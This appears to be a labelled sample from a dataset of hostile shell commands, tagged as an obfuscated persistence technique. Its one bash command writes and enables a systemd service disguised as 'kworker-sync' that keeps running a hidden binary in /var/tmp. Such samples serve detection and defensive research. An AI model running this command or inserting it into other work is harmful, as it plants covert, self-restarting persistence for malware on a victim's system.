# description: Writes and enables a systemd unit from inside a bash -c string.
# family: persistence
# obfuscated: yes
bash -c 'printf "[Service]\nExecStart=/var/tmp/.s\nRestart=always\n[Install]\nWantedBy=multi-user.target\n" > /etc/systemd/system/kworker-sync.service && systemctl enable --now kworker-sync'
